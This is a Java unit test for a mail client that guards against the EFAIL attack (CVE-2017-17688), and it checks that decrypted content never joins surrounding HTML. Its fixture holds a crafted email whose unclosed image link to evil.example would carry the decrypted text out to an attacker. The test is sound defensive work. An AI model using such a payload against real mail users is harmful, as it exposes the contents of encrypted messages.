package threeline.desk.mail;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

/** What was encrypted is offered as it came, and never stands within what somebody wrote around it. */
class EfailTest {

    /** A picture's address that is opened before the encrypted part and closed behind it would carry it away. */
    @Test
    void cve_2017_17688_an_encrypted_part_is_a_file_and_joined_with_nothing() {
        var mail = read("""
                From: ann@example.org
                MIME-Version: 1.0
                Content-Type: multipart/mixed; boundary=B

                --B
                Content-Type: text/html

                <p>before</p><img src="http://evil.example/?
                --B
                Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=C

                --C
                Content-Type: application/pgp-encrypted

                Version: 1
                --C
                Content-Type: application/octet-stream; name=encrypted.asc

                -----BEGIN PGP MESSAGE-----
                zqciphertext
                -----END PGP MESSAGE-----
                --C--
                --B
                Content-Type: text/html

                "><p>behind</p>
                --B--
                """);
        assertThat(mail.html()).doesNotContain("zqciphertext");
        assertThat(SafeHtml.of(mail)).doesNotContain("zqciphertext", "evil.example");
        assertThat(SafeHtml.elsewhere(mail)).noneMatch(it -> it.contains("zqciphertext"));
        assertThat(mail.attachments())
                .anyMatch(it ->
                        new String(it.content().beginning(1000), StandardCharsets.UTF_8).contains("zqciphertext"));
    }

    private static IncomingMail read(String text) {
        var raw = text.replace("\n", "\r\n").getBytes(StandardCharsets.UTF_8);
        return ((Reading.Read) MimeReader.read(raw)).mail();
    }
}
